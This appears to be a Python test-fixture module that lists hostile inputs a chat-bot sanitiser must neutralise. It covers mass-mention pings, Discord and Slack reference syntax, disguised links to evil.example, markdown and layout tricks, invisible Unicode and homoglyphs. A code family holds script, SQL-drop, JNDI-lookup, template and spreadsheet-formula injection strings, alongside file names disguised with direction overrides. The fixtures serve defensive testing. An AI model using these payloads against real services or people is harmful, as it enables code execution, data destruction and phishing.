"""What members may type to call people, hide where a link goes, draw what is not theirs or break a layout.

By family; `ATTACKS` is all of them, each once. Written as escapes where an editor would show nothing.
"""

from itertools import chain, product

ID = "123456789012345678"
EVIL = "https://evil.example"
BANK = "https://bank.example"
HIDDEN = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066", "\u034f", "\u180e", "\ufe0f",
    "\u0301", "\U000e0041", "\ufff9", "\u3164",
)  # fmt: skip

CALLS = (
    "@everyone", "@here", "@channel", "@EVERYONE", "@Here", "hi @everyone!", "a@everyone", "@@everyone",
    "@" * 20 + "here", "(@everyone)", "@everyone" * 30, "\\@everyone", "\\\\@everyone", "@\\everyone",
    "<@everyone>", "<@here>", "@everyone\n@here", "@\u200beveryone", "＠everyone", "﹫everyone", "@ｅｖｅｒｙｏｎｅ",
    "@everуone", "@𝐞𝐯𝐞𝐫𝐲𝐨𝐧𝐞", "@time", "@someone",
)  # fmt: skip
SPLIT_CALLS = tuple(f"@{hidden}everyone @he{hidden}re <{hidden}@{ID}>" for hidden in HIDDEN)
DISCORD_REFERENCES = (
    f"<@{ID}>", f"<@!{ID}>", f"<@&{ID}>", f"<#{ID}>", f"\\<@{ID}>", f"\\\\<@{ID}>", f"<\\@{ID}>", f"<<@{ID}>>",
    f"< @{ID}>", f"<@{ID}", "<@1001>", "<@&100>", "<#110>", "<@\u00b9\u00b2>", "<@١٢٣>", "<id:customize>",
    "<id:browse>", "<id:guide>", "<id:home>", f"<id:linked-roles:{ID}>", f"</feedback:{ID}>",
    f"</feedback ask:{ID}>", f"</a b c:{ID}>", "</privacy erase:0>", f"<:smile:{ID}>", f"<a:wave:{ID}>",
    "<t:1700000000>", "<t:1700000000:R>", "<t:-1:F>", "<t:0:t", f"<sound:1:{ID}>", "<+49301234567>",
    "<me@evil.example>", "<mailto:me@evil.example>", "discord://-/channels/@me", "<discord://-/quests>",
    f"https://discord.com/channels/100/110/{ID}", "https://discord.gg/evil",
)  # fmt: skip
SLACK_REFERENCES = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|x>", "<!subteam^S012345>",
    "<!subteam^S012345|@team>", "<@U0123ABC>", "<@W0123ABC|boss>", "<@U001>", "<#C0123ABC|general>", "<#C001>",
    "<<!here>>", "<!channel", "!channel>", "< !channel>", "<!\u200bchannel>", "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "&lt!channel&gt", "<!date^1700000000^{date}|now>",
    "<!date^0^{date}^https://evil.example|x>", "<!date^1700000000^{ago}>", "＜!channel＞", "<!channel\n>",
    "<!channel|<!here>>", "\\<!channel>", "<T0001>", "<!group>", "<tel:+1|call>", "<slack://open|press>",
)  # fmt: skip
MASKED_LINKS = (
    f"[bank]({EVIL})", f"[bank](<{EVIL}>)", f'[bank]({EVIL} "title")', f"[{BANK}]({EVIL})", f"[bank] ({EVIL})",
    f"[bank\n]({EVIL})", f"[bank](\n{EVIL})", f"[[bank]]({EVIL})", f"[a [b] c]({EVIL})", f"[bank\\]({EVIL})",
    f"\\[bank]({EVIL})", f"[bank]\\({EVIL})", f"[bank](\\{EVIL})", f"[bank]\u200b({EVIL})",
    f"[bank][1]\n\n[1]: {EVIL}", f"[bank]: {EVIL}", f"![bank]({EVIL}/x.png)", f"［bank］（{EVIL}）",
    f"[bank]（{EVIL}）",
    f"【bank】({EVIL})", "[bank](javascript:alert(1))", "[bank](//evil.example)", "[bank](evil.example)",
    f"[**bank**]({EVIL})", f"[`bank`]({EVIL})", f"[<@{ID}>]({EVIL})", f"[bank]({EVIL}/(a)b)", f"[]({EVIL})",
    f"[ ]({EVIL})", f"[\u200b]({EVIL})", f"[bank]({EVIL}", "[" * 9 + "](", f"<{EVIL}|{BANK}>", f"<{EVIL}|bank>",
    "<mailto:a@b.example|help>", f"<{EVIL}|\n{BANK}>", f"<{EVIL}|\u200b>", f"<a href='{EVIL}'>bank</a>",
    f"\n[bank]({EVIL})\n", f"> [bank]({EVIL})", f"||[bank]({EVIL})||", f"[bank]({EVIL})[bank]({EVIL})",
)  # fmt: skip
BARE_LINKS = (
    EVIL, f"<{EVIL}>", f"{EVIL}.", f"({EVIL})", f"{EVIL}/a_b_c", f"{EVIL}/*a*", f"{EVIL}/__x__",
    f"{EVIL}/@everyone", f"{EVIL}/<@{ID}>", f"{EVIL}<@{ID}>", f"{EVIL}<{BANK}>", f"{EVIL}>{BANK}", f"{EVIL}|{BANK}",
    f"{EVIL}/)_x_", f"{EVIL}/a)b_c_", f"{EVIL}/`x`", f"{EVIL}/||x||", f"{EVIL}/~~x~~", f"{EVIL}/[a](b)",
    f"{EVIL}/:smile:", f"{EVIL}/a?b=c&d=e#f", "HTTPS://EVIL.EXAMPLE/_X_", "hTTp://evil.example/*x*",
    f"{BANK}@evil.example", f"{BANK}%2F@evil.example", f"{BANK}\\@evil.example", "https://раypal.example",
    "https://bank.example․evil.example", "https://bank.example⁄login.evil.example", "http://a", "https://*x*",
    "http://[a](b)", "steam://run/_x_", "javascript:alert(1)", "data:text/html,x", "https:/\u200b/evil.example",
    "https://evil.ex\u00adample", "%68ttps://evil.example", "https%3A%2F%2Fevil.example",
    "see https://example.org/x_y_z. And *this*", "www.evil.example", "evil.example",
)  # fmt: skip
EMPHASIS = (
    "**bold**", "*it*", "__under__", "_it_", "***all***", "~~gone~~", "~no~", "||spoiler||", "`code`", "``code``",
    "```py\nprint()\n```", "```\nblock\n```", "```", "``` unclosed", "`unclosed", "~~~\nx\n~~~", "**unclosed",
    "||unclosed", "*a _b* c_", "**a *b** c*", "snake_case_name", "2*3*4", "a * b * c", "* a *", "\\*not*",
    "\\\\*really*", "\\\\\\*odd*", "*\u200bx\u200b*", "_" * 50, "~" * 51, "|" * 7, "`" * 13, "*" * 60, "<" * 20,
    "¯\\_(ツ)_/¯", "$$x$$", "*\nx\n*", "＊bold＊", "∗bold∗", "_\n_x__",
)  # fmt: skip
LAYOUT = (
    "# big", "## big", "### big", "#### big", "-# small", "  # big", "\t- item", "- item", "* item", "+ item",
    "1. item", "12) item", "1\\. item", "> quote", ">quote", ">>> all", "  > quote", "a\n# big",
    "a\n> quote\n- item", "a\r# big", "a\r\n# big", "a\u2028# big", "a\u2029> quote", "a\x0b# big", "a\x0c- item",
    "a\x85# big", "\n\n\n", "\n> \n> \nOnward: fake", "\u00a0# big", "\u3000> quote", "\u200b# big", "\ufeff# big",
    "\u2066# big\u2069", "\u00ad- item", "-", "#", ">", "1.", "--- \n===", "***", "- [ ] task",
    "| a | b |\n|---|---|", "\n**Onward:** fake", "x\nOperator: somebody else", "\\\n# big", "> > > deep",
    ">>> a\n>>> b", "-\u00a0item", "C#", "# #",
)  # fmt: skip
EMOJI = (
    ":smile:", ":+1:", ":+1::skin-tone-2:", ":flag-es:", "10:30:15", "a:b:c", "::", ":\u200bsmile:", ":smile",
    "smile:", ":a\nb:", "1\ufe0f\u20e3", "#\ufe0f\u20e3", "\u2764\ufe0f", "\u2764\ufe0e", "a\ufe0f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f44d\U0001f3fd", "\U0001f1ea\U0001f1f8",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U0001fa77",
    "\u00a9\ufe0f\ufe0f\ufe0f", "\U0001f3f3\ufe0f\u200d\U0001f308", "葛\U000e0100",
)  # fmt: skip
UNSEEN = (
    "\u202eevil\u202c", "\u202devil\u202c", "\u202aevil\u202c", "\u202bevil\u202c", "\u2066x\u2069",
    "\u2067x\u2069", "\u2068x\u2069", "\u2069\u2069x", "\u061cx", "\u200ex\u200f", "a\u200db", "a\u200cb",
    "a\u2060b", "a\u2061b\u2064c", "a\ufeffb", "\u00ad", "a\u180eb", "a\u206ab\u206fc", "\ufff9a\ufffab\ufffb",
    "\U000e0001\U000e0041\U000e007f", "x\u034fy", "a\u115f\u1160b", "a\u3164b\uffa0", "a\u17b4\u17b5b",
    "a\ufe00\ufe01b", "\U0001d173x\U0001d17a", "\U00013430x", "a\u2065b", "a\ufff0b", "\ufdd0x\uffff", "a\ue000b",
    "x\x00y", "x\x1b[31my", "x\x07y\x08z", "x\x7fy\x9bz", "\ud800", "a\udfffb", "\ud83d\ude00", "\u2028",
    "\u200b" * 50 + "x", "user\u202etxt.exe", "https://a.example/\u202egpj.exe", "\u200b", "\u2800",
)  # fmt: skip
WRITING = (
    "שלום @everyone", "مرحبا <@123> [ا](https://evil.example)", "می\u200cخواهم", "क्\u200dष", "e\u0301" * 20,
    "Z" + "\u0301" * 200, "ส" + "\u0e47" * 60, ("a" + "\u0301" * 8 + "\u200b" + "\u0301" * 8) * 4,
    "o\u20dd\u20dd\u20dd" * 9, "\u0958" * 40, "\ufb2c" * 40, "\u0344" * 30, "\u1100\u1161\u11a8" * 20, "\ufdfa" * 9,
    "\ufefb", "ﬁ", "ⓔⓥⓔⓡⓨⓞⓝⓔ", "ｆｕｌｌ　ｗｉｄｔｈ", "\U0001d518", "𝕖𝕧𝕚𝕝", "ᴀdmin",
    "Ⅳ", "İstanbul", "ß", "日本語の文", "한국어 문장",
)  # fmt: skip
LENGTH = (
    "x" * 3000, "word " * 600, "_" * 2900, "a\n" * 1400, "@everyone " * 290, f"[a]({EVIL})" * 90, "ñ" * 2999,
    "😀" * 1500,
)  # fmt: skip
CODE = (
    "<script>alert(1)</script>", "'; DROP TABLE members; --", "${jndi:ldap://evil}", "%s %d {0} {}", "{{7*7}}",
    "=cmd|' /C calc'!A0", "null", "\\", "\\\\", "\\" * 7, "'", '"', "&", "&nbsp;", "&#x202e;x", "%E2%80%AE", "%00",
    "\\u202e", "&lt;@1&gt;", "  ", "\t\ttab",
)  # fmt: skip
IN_EACH_OTHER = tuple(
    outer.format(inner)
    for outer, inner in product(
        ("**{}**", "||{}||", "`{}`", "> {}", "[{}]", "<{}>", "\\{}"),
        ("@everyone", f"<@{ID}>", f"[a]({EVIL})", "<!channel>"),
    )
)

FAMILIES = {
    "calls": CALLS, "split calls": SPLIT_CALLS, "discord references": DISCORD_REFERENCES,
    "slack references": SLACK_REFERENCES, "masked links": MASKED_LINKS, "bare links": BARE_LINKS,
    "emphasis": EMPHASIS, "layout": LAYOUT, "emoji": EMOJI,
    "unseen": UNSEEN, "writing": WRITING, "length": LENGTH, "code": CODE, "in each other": IN_EACH_OTHER,
}  # fmt: skip
ATTACKS = tuple(dict.fromkeys(chain.from_iterable(FAMILIES.values())))
